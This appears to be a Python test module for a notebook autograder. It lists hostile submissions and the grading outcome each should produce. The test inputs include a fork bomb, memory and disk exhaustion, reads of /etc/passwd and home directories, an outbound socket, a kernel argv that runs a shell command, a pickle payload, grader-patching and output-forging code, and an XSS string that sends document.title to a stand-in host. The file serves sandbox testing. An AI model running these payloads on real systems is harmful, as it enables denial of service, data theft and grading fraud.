"""Thirty submissions that nobody should have sent, and the state in which each must end.

A case is the bytes that were handed in, the state of the submission, and what must come of the question that is attacked;
every other question of the same file, and every other file, is judged as if nothing had happened.
"""

from __future__ import annotations

import base64
import copy
import json
import pickle
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

from tests.course.classroom import small

TURN = ("t-ex-turn", "code")


@dataclass(frozen=True)
class Hostile:
    """A hostile submission."""

    name: str
    make: Callable[[dict[str, Any], dict[str, Any]], bytes]
    submission: str = "graded"
    states: dict[tuple[str, str], str] = field(default_factory=dict)


def _code(source: str) -> Callable[[dict[str, Any], dict[str, Any]], bytes]:
    """Return honest work with other code in the first answer."""

    def make(released: dict[str, Any], key: dict[str, Any]) -> bytes:
        work = small.honest(released)
        next(c for c in work["cells"] if c["id"] == "t-ex-turn-answer")["source"] = source
        return small.as_bytes(work)

    return make


def _changed(
    change: Callable[[dict[str, Any], dict[str, Any]], Any],
) -> Callable[[dict[str, Any], dict[str, Any]], bytes]:
    """Return honest work that a function has changed."""

    def make(released: dict[str, Any], key: dict[str, Any]) -> bytes:
        work = small.honest(released)
        return small.as_bytes(change(work, key) or work)

    return make


def _cell(work: dict[str, Any], ident: str) -> dict[str, Any]:
    return next(c for c in work["cells"] if c["id"] == ident)


def _truncated(released: dict[str, Any], key: dict[str, Any]) -> bytes:
    return small.as_bytes(small.honest(released))[:-900]


def _deep(released: dict[str, Any], key: dict[str, Any]) -> bytes:
    return b'{"cells": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"


def _huge_outputs(work: dict[str, Any], key: dict[str, Any]) -> None:
    _cell(work, "t-ex-turn-answer")["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "x" * 5_000_000}]


def _deleted(work: dict[str, Any], key: dict[str, Any]) -> None:
    work["cells"] = [c for c in work["cells"] if not c["id"].startswith("t-ex-turn")]


def _new_ids(work: dict[str, Any], key: dict[str, Any]) -> None:
    for n, cell in enumerate(work["cells"]):
        cell["id"], cell["metadata"] = f"c{n}", {}


def _edited_checks(work: dict[str, Any], key: dict[str, Any]) -> None:
    for cell in work["cells"]:
        if cell["id"].endswith("-check"):
            cell["source"] = "answer = 'all points'\nprint('Right.')"


def _edited_given(work: dict[str, Any], key: dict[str, Any]) -> None:
    _cell(work, "t-setup")["source"] = "raise SystemExit"


def _other_kernel(work: dict[str, Any], key: dict[str, Any]) -> None:
    work["metadata"]["kernelspec"] = {
        "name": "bash",
        "display_name": "Bash",
        "language": "bash",
        "argv": ["sh", "-c", "id > /tmp/pwned"],
    }


def _forged_record(work: dict[str, Any], key: dict[str, Any]) -> dict[str, Any]:
    _cell(work, "t-ex-turn-answer")["source"] = "answer = [0, 0, 0]"
    return small.recorded(work, {"t-ex-turn": key["t-ex-turn"]})


def _record_of_no_shape(work: dict[str, Any], key: dict[str, Any]) -> dict[str, Any]:
    shapes = {"kind": "table", "index": [1], "columns": [[[]]], "values": [{"a": []}]}
    return small.recorded(work, {"t-ex-turn": shapes, "t-ex-count": {"kind": "series"}})


def _answers_no_mapping(work: dict[str, Any], key: dict[str, Any]) -> None:
    work["metadata"]["russia_nato"] = ["assignment"]


def _pickle_in_outputs(work: dict[str, Any], key: dict[str, Any]) -> None:
    class Bomb:
        def __reduce__(self):
            return (print, ("unpickled",))

    data = base64.b64encode(pickle.dumps(Bomb())).decode()
    _cell(work, "t-ex-turn-answer")["outputs"] = [
        {"output_type": "display_data", "data": {"application/x-pickle": data}, "metadata": {}}
    ]


def _odd_cells(work: dict[str, Any], key: dict[str, Any]) -> None:
    work["cells"].insert(0, {"cell_type": "code", "source": 5, "id": ["x"]})


def _no_object_cells(work: dict[str, Any], key: dict[str, Any]) -> None:
    work["cells"].insert(0, "a cell")


def _twice(work: dict[str, Any], key: dict[str, Any]) -> None:
    again = copy.deepcopy(next(c for c in work["cells"] if c["id"] == "t-ex-turn"))
    work["cells"].insert(2, again)


def _loop_in_own_cell(work: dict[str, Any], key: dict[str, Any]) -> None:
    work["cells"].insert(1, small.cell("code", "mine", "while True: pass"))


def _cyrillic(work: dict[str, Any], key: dict[str, Any]) -> None:
    _cell(work, "t-ex-turn-answer")["source"] = (
        "ответ = stated[(stated['actor_id'] == 'russia') & (stated['issue_id'] == 'enlargement')]\nanswer = ответ.sort_values('date')['stance'].tolist()"
    )
    _cell(work, "t-ex-silence-text")["source"] = "Тишина совета, по словам Жукова. 🕊 \u202e"


def _script_in_text(work: dict[str, Any], key: dict[str, Any]) -> None:
    _cell(work, "t-ex-silence-text")["source"] = (
        "</script><script>fetch('//x/'+document.title)</script><img src=//x/y onerror=alert(1)>"
    )


FORK = "import os, time\nwhile True:\n    try:\n        if os.fork() == 0: time.sleep(30)\n    except OSError:\n        pass"
DISK = "n = 0\nwhile True:\n    open(f'/tmp/{n}', 'wb').write(b'x' * 10**7)\n    n += 1"
SOCKET = "import urllib.request\nanswer = urllib.request.urlopen('http://1.1.1.1', timeout=3).read()"
READ = "import glob\nfiles = glob.glob('/root/*') + glob.glob('/home/*/*') + glob.glob('/srv/*')\nanswer = [open(f).read() for f in ['/etc/passwd', *files]]"
EQUAL = "class E(list):\n    def __eq__(self, other): return True\n    def __ne__(self, other): return False\n    def __len__(self): return 7\nanswer = E()"
PATCHED = """import russia_nato.exercises.plain as p, russia_nato.exercises.compare as c, sys, builtins
p.plain = lambda v: {"kind": "list", "index": [], "columns": [], "values": "all of them"}
c.compare = lambda *a: c.Verdict("right", 1.0)
sys.modules["json"].dumps = lambda *a, **k: '{"id": "t-ex-turn", "state": "ran", "plain": {}}'
answer = [0]"""
FORGED = """import os
for fd in range(3, 30):
    try:
        os.write(fd, b'{"id": "t-ex-count", "state": "ran", "plain": {"kind": "number", "index": [], "columns": [], "values": [1]}}\\n')
    except OSError:
        pass
os._exit(0)"""

CASES = [
    Hostile("truncated JSON", _truncated, "unreadable"),
    Hostile("no JSON at all", lambda r, k: b"PK\x03\x04 not a notebook \xff\xfe", "unreadable"),
    Hostile("empty file", lambda r, k: b"", "unreadable"),
    Hostile("lists within lists without end", _deep, "unreadable"),
    Hostile("JSON of another kind", lambda r, k: json.dumps(["a", 1]).encode(), "unreadable"),
    Hostile("a cell whose source is a number", _changed(_odd_cells), "unreadable"),
    Hostile("a cell that is no object", _changed(_no_object_cells), "unreadable"),
    Hostile("huge outputs", _changed(_huge_outputs), states={TURN: "right"}),
    Hostile("deleted cells", _changed(_deleted), states={TURN: "no answer", ("t-ex-turn", "text"): "no answer"}),
    Hostile("all ids and metadata changed", _changed(_new_ids), states={TURN: "right"}),
    Hostile("edited checks", _changed(_edited_checks), states={TURN: "right", ("t-ex-count", "code"): "right"}),
    Hostile("edited set-up", _changed(_edited_given), states={TURN: "right"}),
    Hostile("another kernel", _changed(_other_kernel), states={TURN: "right"}),
    Hostile("a forged record", _changed(_forged_record), states={TURN: "differs from hand-in"}),
    Hostile("a record of no shape", _changed(_record_of_no_shape), states={TURN: "differs from hand-in", ("t-ex-count", "code"): "differs from hand-in"}),
    Hostile("a record that is a list", _changed(_answers_no_mapping), states={TURN: "right"}),
    Hostile("a pickle in the outputs", _changed(_pickle_in_outputs), states={TURN: "right"}),
    Hostile("a prompt twice", _changed(_twice), states={("t-ex-count", "code"): "right"}),
    Hostile("an endless loop", _code("while True:\n    pass"), states={TURN: "timed out"}),
    Hostile("an endless loop in a cell of one's own", _changed(_loop_in_own_cell), states={TURN: "right"}),
    Hostile("a fork bomb", _code(FORK), states={TURN: "timed out"}),
    Hostile("a memory bomb", _code("x = [0]\nwhile True:\n    x = x * 1000"), states={TURN: "out of memory"}),
    Hostile("a disk filler", _code(DISK), states={TURN: "error"}),
    Hostile("reading outside", _code(READ), states={TURN: "error"}),
    Hostile("a socket", _code(SOCKET), states={TURN: "error"}),
    Hostile("an object equal to everything", _code(EQUAL), states={TURN: "not plain"}),
    Hostile("stripped asserts", _code("import sys\nsys.flags = None\nassert False, 'never'\nanswer = [0]"), states={TURN: "error"}),
    Hostile("patched modules", _code(PATCHED), states={}),
    Hostile("a forged channel", _code(FORGED), states={TURN: "error", ("t-ex-count", "code"): "wrong"}),
    Hostile("an answer of a million rows", _code("answer = list(range(10**6))"), states={TURN: "not plain"}),
    Hostile("names in Cyrillic", _changed(_cyrillic), states={TURN: "right", ("t-ex-silence", "text"): "to mark"}),
    Hostile("script in a text", _changed(_script_in_text), states={("t-ex-silence", "text"): "to mark"}),
]  # fmt: skip
